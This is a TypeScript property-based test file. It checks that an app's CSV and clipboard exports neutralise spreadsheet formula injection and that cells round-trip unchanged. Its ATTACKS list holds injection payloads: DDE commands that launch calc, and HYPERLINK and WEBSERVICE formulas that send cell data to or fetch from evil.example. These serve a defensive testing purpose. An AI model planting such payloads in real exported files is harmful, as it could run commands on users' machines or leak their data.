/** Cells that a spreadsheet would run: none of ours does, in any file or on the clipboard, and each comes back as it was. */
import { globSync, readFileSync } from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { createTranslator } from '../../shared/i18n/index.ts';
import { LINE_FIELDS, type PlanLine } from '../../shared/plan/schema.ts';
import { guessColumns } from '../../shared/table/headers.ts';
import { importLines } from '../../shared/table/import-lines.ts';
import { linesTable } from '../../shared/table/lines-table.ts';
import { parseTable } from '../../shared/table/parse-table.ts';
import { csvText, tableText } from '../../shared/table/write-table.ts';
import { unguarded } from '../../shared/text/guard.ts';
import { planOf } from '../fixtures/plan.ts';
import { SEED, times } from './torture.ts';

const ATTACKS: readonly string[] = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  '=WEBSERVICE("https://evil.example/")',
  '+1+1',
  '+cmd|x',
  '-1+1',
  '-2+3+cmd|x',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  "'=1+1",
  "''=1+1",
  '"=1+1',
  '"",=1+1',
  '",=1+1,"',
  'a\r\n=1+1',
  'a\n=1+1,b',
  'a,=1+1',
  'a;=1+1',
  "x;=1+cmd|' /C calc'!A0;",
  'x; =1+1',
  'x;"=1+1"',
  'x;\t=1+1',
  'x|=1+1',
  '-5;x',
  'a,-5;x',
  'x;＝1+1',
  ' =1+1',
  'a\t=1+1',
  '=',
  '-',
  '--1',
  '-1e5',
  '+1.2.3',
];

const RUNS = /^[=+\-@\t\r\n＝＋－＠]/;
const NUMBER = /^[+-]?\d+(?:\.\d+)?$/;

/** What a spreadsheet has in its cells; some take semicolons or tabs in a CSV for separators too. */
function cellsAsSeen(text: string, delimiter: string): string[] {
  return Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { delimiter }).data.flat();
}

/** What a cell holds that is left when blanks and separators of the file before it are dropped. */
const RUNS_ELSEWHERE = /^\s*"?[=+\-@＝＋－＠]/;
/** Alone in a cell of ours a number stays one. */
const NUMBER_FIRST = /^\s*[+-]?\d+(?:\.\d+)?(?:$|[,;\t\r\n])/;

/** As a spreadsheet reads it that takes another separator than the file was written for. */
function expectHarmlessElsewhere(text: string, delimiters: readonly string[]): void {
  for (const delimiter of delimiters) {
    for (const cell of cellsAsSeen(text, delimiter)) {
      if (RUNS_ELSEWHERE.test(cell) && !NUMBER_FIRST.test(cell))
        throw new Error(`runs as a formula elsewhere: ${JSON.stringify({ cell, text, delimiter })}`);
    }
  }
}

function expectHarmless(text: string, delimiters: readonly string[]): void {
  for (const delimiter of delimiters) {
    for (const cell of cellsAsSeen(text, delimiter)) {
      if (RUNS.test(cell) && !NUMBER.test(cell))
        throw new Error(`runs as a formula: ${JSON.stringify({ cell, text })}`);
    }
  }
}

const anyCell = fc.oneof(
  fc.constantFrom(...ATTACKS),
  fc.string({ unit: 'binary', maxLength: 12 }),
  fc
    .tuple(fc.constantFrom('=', '+', '-', '@', '＝', "'", '"', '\t', '\r', '\n', ',', ';'), fc.string({ maxLength: 8 }))
    .map(([sign, text]) => sign + text),
);
const RUN = { numRuns: times(2000, 50_000), seed: SEED } as const;

describe('a cell that is exported', () => {
  it('never runs, in a CSV file with commas, and comes back as it was', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(anyCell, { minLength: 2, maxLength: 4 }), { minLength: 2, maxLength: 4 }),
        (cells) => {
          const text = csvText(cells);
          expectHarmless(text, [',']);
          expectHarmlessElsewhere(text, [';', '\t']);
          expect(cellsAsSeen(text.replace(/\r\n$/, ''), ',').map(unguarded)).toEqual(cells.flat());
        },
      ),
      RUN,
    );
  });

  it('never runs where a spreadsheet takes semicolons or tabs for separators', () => {
    for (const attack of ATTACKS) expectHarmless(csvText([[attack]]), [',', ';', '\t']);
  });

  it('never runs from the clipboard, and comes back as it was', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(anyCell, { minLength: 2, maxLength: 4 }), { minLength: 2, maxLength: 4 }),
        (cells) => {
          const text = tableText(cells);
          expectHarmless(text, ['\t']);
          expectHarmlessElsewhere(text, [';', ',']);
          expect(cellsAsSeen(text, '\t').map(unguarded)).toEqual(cells.flat());
        },
      ),
      RUN,
    );
  });

  it('of a plan, in every field and in both languages, and the import gives the same text back', () => {
    const texts = LINE_FIELDS.filter((field) => !['disks', 'tags', 'group'].includes(field));
    for (const language of ['en', 'zh'] as const) {
      const t = createTranslator(language);
      const lines = ATTACKS.map((attack, index): PlanLine => ({
        id: `l${index}`,
        ...Object.fromEntries(texts.map((field) => [field, attack])),
        tags: [attack],
        group: 'g',
      }));
      for (const attack of ATTACKS) {
        const plan = planOf(lines, { groups: [{ id: 'g', name: attack }] });
        const table = linesTable(
          plan,
          lines.map(({ id }) => id),
          LINE_FIELDS,
          t,
        );
        expectHarmless(csvText(table), [',']);
        expectHarmless(tableText(table), ['\t']);
      }
      const notes = ATTACKS.map((attack, index): PlanLine => ({
        id: `n${index}`,
        name: `n${index}`,
        note: attack,
        owner: 'x',
      }));
      const table = linesTable(
        planOf(notes),
        notes.map(({ id }) => id),
        ['name', 'note', 'owner'],
        t,
      );
      const read = parseTable(csvText(table));
      const imported = importLines(planOf([]), read, guessColumns(read), () => crypto.randomUUID());
      if (!imported.ok) throw new Error(JSON.stringify(imported.error));
      expect(imported.value.plan.lines.map(({ note }) => note)).toEqual(ATTACKS);
    }
  });

  it('goes through the guard wherever a file for spreadsheets is made', () => {
    const root = path.join(import.meta.dirname, '..', '..');
    const makers = globSync('{renderer,shared,electron}/**/*.{ts,tsx}', { cwd: root }).filter((file) =>
      readFileSync(path.join(root, file), 'utf8').includes("'text/csv'"),
    );
    expect(makers.length).toBeGreaterThan(1);
    for (const file of makers) {
      const source = readFileSync(path.join(root, file), 'utf8');
      expect(source.match(/'text\/csv'/g)?.length, file).toBe(source.match(/csvText\([^)]*\)*, 'text\/csv'/g)?.length);
    }
  });
});
